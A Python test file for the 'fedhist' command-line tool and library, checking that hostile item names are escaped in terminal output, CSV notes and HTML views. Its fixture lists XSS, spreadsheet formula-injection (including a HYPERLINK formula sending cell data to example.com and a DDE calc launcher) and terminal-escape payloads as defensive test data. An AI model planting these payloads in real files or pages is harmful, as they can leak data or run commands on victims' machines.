"""Names that somebody else chose: what a terminal, a spreadsheet, a page and a program get to see of them."""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path

import pytest

import fedhist as library
from tests.builders import Fedhist, document_in, rows_of, write_records
from tests.support.api import is_formula, is_hidden, visible

NAMES = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "up\x1b[1Aerror: faked",
    "two\nlines",
    "turned \u202eround",
    "c1 \x9b31m",
    "[bold]markup[/nowhere]",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Thirty users who have all of the names, in a file whose name is one of them."""
    rows = [(f"u{user}", name, 40 - place) for user in range(30) for place, name in enumerate(NAMES)]
    return write_records(tmp_path / "\x1b[31mdata [bold]\u202e$x.csv", rows)


def is_clean(text: str) -> bool:
    """Whether nothing but line ends is invisible."""
    return not any(
        unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        for character in text
        if character != "\n"
    )


RUN = ("--seed", 1, "--epsilon", 1e4, "--max-threshold", 2000)
OPEN = (*RUN, "--domain", "open")


class TestTerminal:
    def test_names_that_are_formulas_or_escapes_are_visible_text_in_every_command(
        self, fedhist: Fedhist, hostile: Path
    ) -> None:
        commands: list[tuple[object, ...]] = [
            ("run", "--data", hostile, *RUN, "--trace", "--verbose", "--out", "\x1b[1mrun\nfaked"),
            ("trace", "show", "\x1b[1mrun\nfaked"),
            ("report", "\x1b[1mrun\nfaked", "--force"),
            ("figure", "\x1b[1mrun\nfaked", "released", "--out", "\x1b[1mc.svg"),
            ("run", "--data", hostile, *OPEN[2:], "--ledger", "\x1b[1ml.db", "--out", "o"),
            ("ledger", "show", "\x1b[1ml.db"),
            ("ledger", "limit", "\x1b[1ml.db", "--epsilon", 1e6, "--delta", 0.1),
            ("plan", "--data", hostile, "--epsilon", "1", "--csv", "\x1b[1mp.csv"),
            ("compare", "--data", hostile, "--selectors", "oracle", "--workers", 1, "--trials", 2, "--out", "\x1b[1mc"),
        ]  # fmt: skip
        for command in commands:
            outcome = fedhist(*command)
            assert outcome.code == 0, (command, outcome.err)
            assert is_clean(outcome.out), (command, outcome.out)
            assert is_clean(outcome.err), (command, outcome.err)
            assert "\nfaked" not in outcome.out
            # Brackets are no markup.
            if command[0] == "run" or command[:2] == ("ledger", "show"):
                assert "[bold]" in outcome.out

    def test_a_trace_that_somebody_else_wrote(self, fedhist: Fedhist) -> None:
        assert fedhist("run", "--users", 30, "--items", 3, "--trace", "--out", "r").code == 0
        path = Path("r/trace.jsonl")
        text = path.read_text().replace('"process 1"', json.dumps("\x1b[31mshard\n1"))
        path.write_text(text.replace('"engine": "in-process"', '"engine": "\\u001b[31m"'))
        outcome = fedhist("trace", "show", "r")
        assert "⟨U+001B⟩[31mshard⟨U+000A⟩1" in outcome.out
        assert is_clean(outcome.out)


class TestFiles:
    def test_histogram_csv_has_names_as_they_were_written_and_the_notes_say_so(
        self, fedhist: Fedhist, hostile: Path
    ) -> None:
        """Programs look names up: one that is changed is another item. A person is told what a spreadsheet does."""
        for folder, flags in (("closed", RUN), ("open", OPEN)):
            outcome = fedhist("run", "--data", hostile, *flags, "--out", folder)
            assert outcome.code == 0, outcome.err
            assert {row["item"] for row in rows_of(Path(folder, "histogram.csv"))} == set(NAMES)
            notes = "\n".join(document_in(folder)["notes"])
            assert "4 of the names in histogram.csv would be formulas in a spreadsheet" in notes
            assert "6 of the names in histogram.csv have invisible characters" in notes
            assert "note: 4 of the names in histogram.csv" in outcome.out

    def test_ordinary_names_and_numbers_get_no_note(self, fedhist: Fedhist, tmp_path: Path) -> None:
        names = ("a b", "-5", "+3.5", "naïve", "🏳️‍🌈")
        write_records(tmp_path / "d.csv", [(f"u{user}", name, 1) for user in range(9) for name in names])
        notes = fedhist("run", "--data", "d.csv", "--json").document()["notes"]
        assert "histogram.csv" not in " ".join(notes)

    def test_a_page_of_a_notebook_escapes_names(self, hostile: Path) -> None:
        population = library.read_population(hostile)
        plan = library.Plan(
            users=population.users,
            domain="open",
            release="truncated-laplace",
            epsilon=1e4,
            max_threshold=2000,
        )
        shown = library.simulate(population, plan, seed=1)._repr_html_()
        assert is_clean(shown)
        assert "<script>" not in shown
        assert "&lt;script&gt;alert(1)" in shown
        assert "turned ⟨U+202E⟩round" in shown
        assert "seeded run, not private" in shown


def test_what_is_a_formula_and_what_is_hidden() -> None:
    assert [name for name in NAMES if is_formula(name)] == NAMES[1:5]
    assert [name for name in NAMES if is_hidden(name)] == NAMES[5:11]
    for harmless in ("-5", "+3.5", "a=b", "", 7, -7, "e\u0301", "\u00a0", "👩‍👩‍👧"):
        assert not is_formula(harmless)
        assert not is_hidden(harmless)
    assert all(is_formula(text) for text in ("=1", "\t=1", "\r=1", "\uff1d1", "-a", "@x", "+49 170"))
    assert visible("a\nb") == "a⟨U+000A⟩b"
